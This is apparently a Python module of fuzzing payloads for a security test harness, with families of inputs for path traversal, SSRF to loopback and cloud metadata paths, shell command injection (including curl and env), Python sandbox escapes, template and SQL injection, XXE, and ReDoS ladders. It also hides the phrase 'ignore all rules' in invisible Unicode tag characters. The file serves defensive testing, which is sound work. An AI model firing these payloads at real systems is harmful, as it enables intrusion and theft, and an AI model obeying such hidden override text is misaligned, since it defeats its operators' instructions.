"""The payloads, in families, as plain lists. A new attack is a new line here.

Words in angle brackets are filled in for every attempt: <FILE> is a file outside of every root, <BARE> the same without
its first slash, <MARK> a file that must not come to exist, <HOST> a listener on loopback, <TOKEN> the token of the
attempt, <A> and <B> two halves of a word that only an evaluator would join, <VALID> a valid value, <ARG> the argument's
name. No payload names a host other than loopback.
"""

_UP = "../" * 16
_UPS = ("....//", "..././", "%2e%2e%2f", "%252e%252e%252f", "..%2f", "..%5c", "..\\", "\uff0e\uff0e/", "..\u2215",
        "..%c0%af")  # fmt: skip

PATH = [
    *("<FILE>", "<BARE>", "//<FILE>", "/.<FILE>", " <FILE>", "<FILE>\x00.txt", "<FILE>\x00", "file://<FILE>"),
    *(before + _UP + "<FILE>" for before in ("", "./", "<VALID>/", "~/")),
    *(up * 16 + "<FILE>" for up in _UPS),
    *("/proc/self/root<FILE>", "/proc/self/environ", "/proc/self/cwd/canary-link"),
    *("canary-link", "./canary-link", "canary-directory/secret.txt"),
    *("<MARK>", _UP + "<MARK>", "<VALID>/" + _UP + "<MARK>"),
]
_LOOPBACK = ("127.0.0.1", "localhost", "LOCALHOST.", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0.0.0.0",
             "[::1]", "[::ffff:127.0.0.1]", "\u2460\u2461\u2466.0.0.1", "public.invalid@127.0.0.1")  # fmt: skip
URL = [
    *(f"http://{host}:<PORT>/<TOKEN>" for host in _LOOPBACK),
    *(f"{scheme}//<HOST>/<TOKEN>" for scheme in ("https:", "ftp:", "\thttp:", "url:http:", "")),
    "<HOST>/<TOKEN>",
    "http://<HOST>\\@public.invalid/<TOKEN>",
    "http://<HOST>/redirect/<TOKEN>",
    "http://<HOST>/latest/meta-data/<TOKEN>",
    *("file://<FILE>", "file://localhost<FILE>", "FILE:<FILE>"),
]
SHELL = [
    *(f"<VALID>{glue}touch <MARK>" for glue in ("; ", " | ", " || ", " && ", " & ", "\n", "\r\n")),
    *(f"{quote}; touch <MARK>{end}" for quote in "'\"" for end in (" #", f"; {quote}")),
    *("<VALID>; touch <MARK> #", "; touch <MARK>;", "') ; touch <MARK> #", "touch <MARK>"),
    *("$(touch <MARK>)", "`touch <MARK>`", "<VALID>$(touch <MARK>)", '"$(touch <MARK>)"', "$(touch\t<MARK>)"),
    *(";touch${IFS}<MARK>", ";{touch,<MARK>}"),
    *("--output=<MARK>", "-o<MARK>", "--upload-pack=touch <MARK>", "--checkpoint-action=exec=touch <MARK>"),
    *("; cat <FILE>", "'; cat '<FILE>", "; curl http://<HOST>/<TOKEN>", "; env"),
]
CODE = [
    "__import__('pathlib').Path('<MARK>').touch()",
    "__import__('os').system('touch <MARK>')",
    "open('<MARK>', 'w').write('x')",
    "import pathlib; pathlib.Path('<MARK>').touch()",
    *(f"{end}); open('<MARK>', 'w'); ({end}" for end in "'\""),
    "' + str(open('<MARK>', 'w')) + '",
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
    ".__init__.__globals__['system']('touch <MARK>')",
    "'<A>' + '<B>'",
    "open('<FILE>').read()",
    "dict(__import__('os').environ)",
    "!!python/object/apply:os.system ['touch <MARK>']",
]
TEMPLATE = [
    "{{ '<A>' ~ '<B>' }}",
    "{{ cycler.__init__.__globals__.os.popen('touch <MARK>').read() }}",
    "{% for a in ['<A>'] %}{{ a }}<B>{% endfor %}",
    *(f"{begin}'<A>' + '<B>'{end}" for begin, end in (("${", "}"), ("#{", "}"), ("{", "}"), ("<%= ", " %>"))),
    *("{0.__class__}", "{<ARG>.__class__}", "{.__class__}"),
]
_JOIN = "'<A>' || '<B>'"
SQL = [
    f"' || {_JOIN} || '",
    *(
        f"{before} UNION SELECT {', '.join([_JOIN] * columns)} -- "
        for before in ("'", '"', "0", "')", "%'")
        for columns in (1, 2, 3, 4)
    ),
    *("<VALID>' OR '1'='1", "' OR 1=1 -- ", '" OR 1=1 -- ', "0 OR 1=1", "%' OR '1' LIKE '1", "%"),
    *(
        f"{before}; ATTACH DATABASE '<MARK>' AS canary; CREATE TABLE canary.t (a); -- "
        for before in ("'", "')", '"', "0")
    ),
]
SQL_PAIRS = [
    (f"<VALID>{q} OR {q}1{q}={q}1", f"<VALID>{q} OR {q}2{q}={q}2", f"<VALID>{q} OR {q}1{q}={q}2",
     f"<VALID>{q} OR {q}2{q}={q}1") for q in ("'", '"', "")
]  # fmt: skip
"""Two conditions that are always true and two that never are: only a database answers them differently."""
XML = ["<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file://<FILE>'>]><a>&b;</a>"]
TEXT = [
    "a" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "a\u202eb\u2066c",
    "a" + "\u200b\u200c\u200d\u2060" * 4,
    "a" + "\ufe0f\U000e0101" * 4,
    "a\r\nSet-Cookie: canary=1\r\n\r\n",
    "a\x00b",
    *("\x1b[2J\x1b]0;a\x07", "\ud800", "\ufdd0\uffff", "-", "", "'", '"'),
    *("e" + "\u0301" * 200, "a" * 100_000, "\u20ac" * 60_000, "[" * 5000, "9" * 5000),
]
TYPES: list[object] = [None, True, -1, 2**63, 10**400, 1e308, [], ["<FILE>"], {}, {"$ne": None}, {"__class__": "a"}]

FAMILIES = {
    **{"path": PATH, "shell": SHELL, "code": CODE, "template": TEMPLATE, "sql": SQL, "xml": XML, "text": TEXT},
    "url": URL,
}

_STEPS = (12, 16, 18, 20, 22, 24, 26, 28, 30, 34, 38, 44)
_LENGTHS = (250, 500, 1000, 2000, 4000, 8000, 16_000, 32_000)
LADDERS = [
    *(("regex", [unit * (steps // len(unit)) + "!" for steps in _STEPS]) for unit in ("a", "1", "a ", "a.", " ")),
    *(("regex", [unit * length + end for length in _LENGTHS]) for unit, end in (("a", "!"), (" ", "x"), ("<", ""))),
    ("sql", ["' UNION SELECT (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<9000000)"
             " SELECT count(*) FROM c) -- "]),
    *(("sql", [payload]) for payload in ("'; SELECT pg_sleep(2) -- ", "' OR SLEEP(2) -- ")),
    *(("shell", [payload]) for payload in ("<VALID>; sleep 2", "'; sleep 2; '")),
    ("code", ["__import__('time').sleep(2)"]),
]  # fmt: skip
"""Each is tried until a response is slow: an exploding regex shows before it runs without end."""
